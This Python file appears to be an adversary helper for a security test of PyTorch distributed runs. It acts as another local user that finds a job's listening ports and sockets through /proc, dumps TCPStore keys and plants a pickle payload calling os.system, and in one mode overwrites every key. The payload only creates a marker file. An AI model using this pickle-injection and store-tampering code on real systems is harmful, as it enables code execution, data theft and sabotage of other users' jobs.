"""Another user of the machine, who connects to all that a run has open.

`python intruder.py FILE HOW` says `ready`, reads the number of a process, becomes user 65534,
connects to the ports and sockets of that process and its children, and prints in JSON what he could
read. A pickle that makes FILE is planted wherever something can be written. HOW is `look` (he reads
and plants, and changes nothing that is there) or `disturb` (he overwrites every key that he finds).
"""

from __future__ import annotations

import json
import os
import pickle
import re
import socket
import sys
from collections import Counter
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

OTHER_USER = 65534
LISTENS = "0A"


class Planted:
    """What makes a file where it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        """Run code, as a pickle can."""
        return os.system, (f"touch {self.path}",)


def processes(session: int) -> list[int]:
    """Return the processes of a session, and of those that its processes have begun."""
    parents = {}
    for entry in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            after = entry.read_text(encoding="utf-8").rpartition(")")[2].split()
            parents[int(entry.parent.name)] = int(after[1])
    found = [session]
    for pid in found:
        found += [child for child, parent in parents.items() if parent == pid]
    return found


def opens(pids: list[int]) -> tuple[list[tuple[int, str, int]], list[bytes]]:
    """Return the ports, by family and address, and the sockets at which processes listen.

    First the port that most processes hold, and was opened first: that of torch's store. What he
    writes to a port of Gloo ends the rank behind it, and with it everything that is open.
    """
    inodes = Counter[str]()
    for pid in pids:
        for link in Path(f"/proc/{pid}/fd").glob("*"):
            with suppress(OSError):
                inodes.update(re.findall(r"socket:\[(\d+)\]", str(link.readlink())))
    ports = []
    for family, table in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
        for row in Path(f"/proc/net/{table}").read_text(encoding="utf-8").splitlines()[1:]:
            words = row.split()
            if words[3] == LISTENS and words[9] in inodes:
                address, port = words[1].split(":")
                found = (int(family), address, int(port, 16))
                ports.append((-inodes[words[9]], int(words[9]), found))
    sockets = []
    for row in Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()[1:]:
        words = row.split()
        if words[6] in inodes and len(words) > 7 and words[7].startswith("@") and words[5] == "01":
            sockets.append(b"\0" + words[7][1:].encode())
    return [found for _, _, found in sorted(ports)], sockets


def talk(line: socket.socket, words: bytes) -> bytes:
    """Say something, and return what comes back."""
    line.settimeout(0.3)
    found = b""
    with suppress(OSError):
        line.sendall(words)
        while more := line.recv(1 << 16):
            found += more
    return found


def host_of(family: int, address: str) -> str:
    """Return the address of a row of /proc/net as text; a port open for all has the loopback's."""
    raw = bytes.fromhex(address)
    turned = b"".join(raw[at : at + 4][::-1] for at in range(0, len(raw), 4))
    text = socket.inet_ntop(family, turned).removeprefix("::ffff:")
    return "127.0.0.1" if text in {"0.0.0.0", "::"} else text  # noqa: S104 -- it is compared


def main() -> None:
    """Be the intruder."""
    import torch.distributed

    dist: Any = torch.distributed
    path, how = sys.argv[1:]
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    session = int(sys.stdin.readline())
    ports, sockets = opens(processes(session))  # he finds them as well by trying each
    os.setgroups([])
    os.setgid(OTHER_USER)
    os.setuid(OTHER_USER)
    pickled = pickle.dumps(Planted(path))
    read: dict[str, str] = {}
    for name in sockets:
        with socket.socket(socket.AF_UNIX) as line, suppress(OSError):
            line.connect(name)
            read[f"socket {name[1:].decode()}"] = talk(line, bytes(32) + pickled).decode("latin-1")
    for number, address, port in ports:
        host = host_of(number, address)
        with suppress(RuntimeError, OSError, ValueError):
            store = dist.TCPStore(
                host, port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False
            )
            for key in store.list_keys():
                with suppress(RuntimeError):
                    value = store.get(key)
                    read[f"key {key}"] = bytes(value).decode("latin-1")
                if how == "disturb":
                    store.set(key, pickled)
            for key in ("mail/1", "mail/2", "order/1", "turn/0/1", "scenario/1/mail/1"):
                for prefix in (f"launch-{session}-1", "torch_scenarios/run/0", "/default_pg"):
                    store.set(f"{prefix}/{key}", pickled)
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family) as line, suppress(OSError):
            line.connect((host, port))
            read[f"port {port} of {address}"] = talk(line, pickled + bytes(100)).decode("latin-1")
    json.dump({"ports": len(ports), "sockets": len(sockets), "read": read}, sys.stdout)


if __name__ == "__main__":
    main()
